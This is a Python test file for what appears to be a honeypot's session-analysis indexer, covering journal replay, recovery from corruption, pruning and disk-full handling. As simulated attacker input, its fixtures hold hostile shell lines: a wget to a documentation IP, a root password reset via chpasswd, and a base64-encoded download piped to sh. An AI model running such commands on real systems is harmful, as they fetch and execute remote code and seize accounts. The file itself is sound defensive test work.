import asyncio
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from hermes import events
from hermes.analysis import sweep
from hermes.analysis.documents import SHIFT
from hermes.analysis.query import Query
from hermes.analysis.reader import IndexReader
from hermes.analysis.search import search
from hermes.analysis.work import RETRY_SECONDS, run
from hermes.config import Settings
from hermes.store import Journal, cursors, pruning
from hermes.tasks import TaskOwner
from tests.unit.analysis.facts import Names, analyst, both, ran, settings, typed, visit, work
from tests.unit.store.facts import eventually, write


def found(made: Settings, text: str) -> list[int]:
    with IndexReader(made.index_path) as index:
        return [it.id for it in search(index, Query(text=text))]


def left(made: Settings) -> dict[str, int]:
    """Rows of every table that a stage fills."""
    with IndexReader(made.index_path) as index:
        tables = index.query(
            "SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'index%' AND name NOT LIKE '%words%'"
            " AND name NOT IN ('documents_events', 'documents_hours')"
        )
        return {name: index.query(f"SELECT count(*) FROM {name}")[0][0] for (name,) in tables}


def test_what_is_in_the_journal_is_found_and_what_comes_is_as_well(tmp_path: Path) -> None:
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"), *ran("one", "uname -a"))
    with analyst(made) as working:
        work(working)
        assert found(made, "uname") == [7]
        write(made.journal_path, *visit("two"), *ran("two", "uname -r"))
        work(working)
        assert found(made, "uname") == [14, 7]


def test_it_goes_on_where_it_was(tmp_path: Path) -> None:
    made = settings(tmp_path)
    for name in ("one", "two"):
        write(made.journal_path, *visit(name), *typed(name, "whoami"))
        with analyst(made) as working:
            work(working)
    assert found(made, "whoami") == [14, 7]


def test_without_a_journal_it_waits_for_one(tmp_path: Path) -> None:
    made = settings(tmp_path)
    with analyst(made) as working, capture_logs() as logs:
        assert working.step() == working.step() == RETRY_SECONDS
        assert len(logs) == 1
        write(made.journal_path, *visit("one"))
        work(working)
    assert found(made, "root")


def test_an_index_that_breaks_while_it_is_written_is_made_anew(tmp_path: Path) -> None:
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"), *ran("one", "uname -a"))
    with analyst(made) as working, capture_logs() as logs:
        work(working)
        working.index.db.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchone()
        working.index.db.execute("PRAGMA cache_size = 0")
        with made.index_path.open("r+b") as file:
            file.seek(4096)
            file.write(b"\xff" * (made.index_path.stat().st_size - 4096))
        write(made.journal_path, *visit("two"), *ran("two", "uname -r"))
        work(working)
        assert any("thrown away" in it["event"] for it in logs)
    assert found(made, "uname") == [14, 7]


def test_a_journal_that_lost_its_end_is_read_anew(tmp_path: Path) -> None:
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"), *ran("one", "uname -a"))
    with analyst(made) as working:
        work(working)
    db = sqlite3.connect(made.journal_path)
    db.executescript("DELETE FROM events WHERE id = 7; DELETE FROM commands WHERE id = 7")  # as a power cut would
    db.commit()
    db.close()
    write(made.journal_path, *ran("one", "whoami"))
    with analyst(made) as working, capture_logs() as logs:
        work(working)
    assert any("not what it was" in it.get("reason", "") for it in logs)
    assert (found(made, "uname"), found(made, "whoami")) == ([], [7])


def test_a_new_journal_has_an_index_of_its_own(tmp_path: Path) -> None:
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"), *ran("one", "uname -a"))
    with analyst(made) as working:
        work(working)
        for part in made.journal_dir.iterdir():
            part.unlink()
        write(made.journal_path, *visit("two"), *ran("two", "whoami"))
        work(working)
    assert (found(made, "uname"), found(made, "whoami")) == ([], [7])
    with IndexReader(made.index_path.with_name("index.previous.db")) as previous:
        assert [it.id for it in search(previous, Query(text="uname"))] == [7]


@pytest.fixture
def often(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sweep, "INTERVAL", 0.0)
    monkeypatch.setattr(sweep, "SHARE", 0)
    monkeypatch.setattr(sweep, "STEP", 3)


@pytest.mark.usefixtures("often")
def test_what_the_limits_of_evidence_remove_leaves_the_index_with_all_that_came_of_it(tmp_path: Path) -> None:
    made = settings(tmp_path)
    stray = events.SensorReloaded(changed=["aged away"], ignored=[])
    names = [f"gone{number}" for number in range(8)]
    for name in names:
        artifact = events.ArtifactStored(
            container_id="b",
            sha256="a" * 64,
            sha1="b" * 40,
            md5="c" * 32,
            size=1,
            path="/x",
            source="left",
            known=True,
            **both(name),
        )
        commands = ran(name, "wget http://192.0.2.9/x", "echo root:x1|chpasswd")
        write(made.journal_path, *visit(name, password=f"only-{name}"), *commands, artifact)
    write(made.journal_path, stray)
    with analyst(made) as working:
        work(working)
        assert len(found(made, "wget")) == 8
        write(made.journal_path, events.EvidenceRemoved(what="journal", reason="evidence.max_age", bytes=1))
        db = sqlite3.connect(made.journal_path, isolation_level=None)
        db.execute("UPDATE sessions SET ended = started, cause = 'client'")
        assert pruning.remove_sessions(db, names)[0] == 8
        db.execute("DELETE FROM events WHERE event = 'sensor.reloaded'")
        db.close()
        work(working)
    rows = left(made)
    assert rows.pop("visits_strays") == 1  # the event that says so
    assert rows.pop("documents") == 1
    assert rows.pop("documents_texts") == 1
    assert set(rows.values()) == {0}, rows
    assert found(made, "aged") == found(made, "wget") == found(made, "only") == []
    with IndexReader(made.index_path) as index:
        index.query("SELECT * FROM documents_words WHERE documents_words MATCH 'evidence'")


@pytest.mark.usefixtures("often")
def test_what_is_still_there_stays(tmp_path: Path) -> None:
    made = settings(tmp_path)
    for number in range(8):
        write(made.journal_path, *visit(f"n{number}"), *ran(f"n{number}", "uname -a"))
    write(made.journal_path, events.EvidenceRemoved(what="journal", reason="evidence.max_age", bytes=1))
    with analyst(made) as working:
        work(working)
    assert len(found(made, "uname")) == 8


def test_past_its_limit_the_oldest_leave_it(tmp_path: Path) -> None:
    made = settings(tmp_path)
    for number in range(3):
        name = f"n{number}"
        write(made.journal_path, *visit(name), *ran(name, *(f"{it} {'x' * 4000}{it}{name}" for it in range(200))))
    with analyst(made) as working:
        work(working)
        working._sweep._max_bytes = working.index.size.used * 2 // 3
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(sweep, "STEP", 1)
            work(working)
        assert working.index.size.used <= working._sweep._max_bytes
    with IndexReader(made.index_path) as index:
        assert {it for (it,) in index.query("SELECT session_id FROM visits")} in ({"n2"}, {"n1", "n2"})


def test_a_disk_that_is_full_is_waited_for_and_nothing_is_lost(tmp_path: Path) -> None:
    made = settings(tmp_path)
    stage = Names()
    write(made.journal_path, *visit("one"))
    with analyst(made, [stage]) as working, capture_logs() as logs:
        (pages,) = working.index.db.execute("PRAGMA page_count").fetchone()
        working.index.db.execute(f"PRAGMA max_page_count = {pages}")
        write(made.journal_path, events.ClientVersion(connection_id="c", version="x" * 100))
        stage.take = lambda db, events: db.executemany("INSERT INTO names VALUES (?, ?)", [(it.id, "y" * 9000) for it in events])  # type: ignore[method-assign]
        assert working.step() == RETRY_SECONDS
        assert any("full" in it.get("reason", "") for it in logs)
        working.index.db.execute("PRAGMA max_page_count = 100000")
        work(working)
        assert working.index.db.execute("SELECT count(*) FROM names").fetchone() == (7,)


@pytest.mark.asyncio
async def test_the_process_says_that_it_is_ready_and_follows_until_it_is_cancelled(tmp_path: Path) -> None:
    made = settings(tmp_path)
    said: list[str] = []
    journal = Journal(made.journal_path, sensor="s")
    journal.open()
    try:
        async with TaskOwner("test") as tasks:
            task = tasks.spawn(run(made, said.append), name="analyst")  # type: ignore[arg-type]
            await eventually(lambda: said == ["ready"])
            for one in (*visit("one"), *ran("one", "uname -a")):
                journal.emit(one)
            await eventually(lambda: found(made, "uname") == [7])
            task.cancel()
            await asyncio.wait([task])
    finally:
        journal.close()
    with analyst(made) as working:
        assert not working.index.careful


@pytest.mark.asyncio
async def test_where_it_is_turned_off_nothing_is_kept(tmp_path: Path) -> None:
    made = settings(tmp_path, enabled=False)
    said: list[str] = []
    async with TaskOwner("test") as tasks:
        task = tasks.spawn(run(made, said.append), name="analyst")  # type: ignore[arg-type]
        await eventually(lambda: said == ["ready"])
        task.cancel()
    assert not made.index_path.exists()


def test_the_same_events_give_the_same_rows_however_they_are_cut(tmp_path: Path) -> None:
    facts = [fact for number in range(5) for fact in (*visit(f"n{number}"), *ran(f"n{number}", "uname -a", f"echo {number}"))]
    dumps = []
    for name, size in (("whole", 1000), ("single", 1)):
        (tmp_path / name).mkdir()
        made = settings(tmp_path / name)
        write(made.journal_path, *facts)
        with analyst(made) as working:
            patch = pytest.MonkeyPatch()
            patch.setattr("hermes.analysis.work.BATCH_EVENTS", size)
            work(working)
            patch.undo()
        with IndexReader(made.index_path) as index:
            dumps.append(
                [
                    index.query("SELECT id, event, visit, channel, text FROM documents ORDER BY id"),
                    index.query("SELECT id, text FROM documents_texts ORDER BY id"),
                    index.query("SELECT id, connection_id, session_id, source_ip, hassh, username, country FROM visits"),
                    index.query("SELECT id, visit, line FROM commands"),
                    index.query("SELECT id, visit, pair FROM stats_attempts"),
                ]
            )
    assert dumps[0] == dumps[1]
    assert dumps[0][0][0][0] == 1 << SHIFT


def test_others_are_told_how_far_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("hermes.analysis.work.TELL_SECONDS", 0.0)
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"))
    with analyst(made) as working:
        work(working)
    write(made.journal_path, *visit("two"))
    (standing,) = cursors.standing(made.journal_path, made.index_dir, ["analyst"])
    assert standing.lag == 6


@pytest.mark.parametrize("body", ["{", "[1]", '{"a":' * 5000, "\\ud800"])
def test_what_is_no_event_is_left_out_and_said(tmp_path: Path, body: str) -> None:
    made = settings(tmp_path)
    write(made.journal_path, *visit("one"), *ran("one", "uname -a", "uname -b", "uname -c"))
    db = sqlite3.connect(made.journal_path)
    db.execute("UPDATE events SET body = ? WHERE id IN (1, 8)", (body,))
    db.commit()
    db.close()
    with analyst(made) as working, capture_logs() as logs:
        work(working)
    assert found(made, "uname") == [9, 7]
    assert [it["after"] for it in logs if "no event" in it["event"]] == [0, 7]


CONFINED = """
import sys
from hermes.analysis.work import Analyst, stages
from hermes.config import Settings

class TooLate:
    def find_spec(self, name, path=None, target=None):
        raise ModuleNotFoundError(f"{name} is imported too late", name=name)

sys.meta_path.insert(0, TooLate())
made = Settings.model_validate({"data_dir": sys.argv[1]})
analyst = Analyst(made, stages(made))
analyst.open()
while not analyst.step():
    pass
print(analyst.index.db.execute("SELECT sum(skipped) FROM index_stages").fetchone()[0], analyst.index.position.id)
analyst.close()
"""


def test_nothing_is_imported_once_it_is_confined(tmp_path: Path) -> None:
    made = settings(tmp_path)
    lines = [
        "wget http://ex\xe4mple.com/\u2126; curl http://[::1]:80/",
        "(((",
        "echo d2dldCBodHRwOi8vMTkyLjAuMi4x|base64 -d|sh",
        "\x1b[A\0",
    ]
    write(
        made.journal_path,
        *visit("one"),
        *typed("one", *lines),
        *ran("one", *lines),
        events.ClientVersion(version="no connection"),
    )
    done = subprocess.run(
        [sys.executable, "-c", CONFINED, str(tmp_path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert (done.stdout, done.returncode) == ("0 15\n", 0), done.stderr
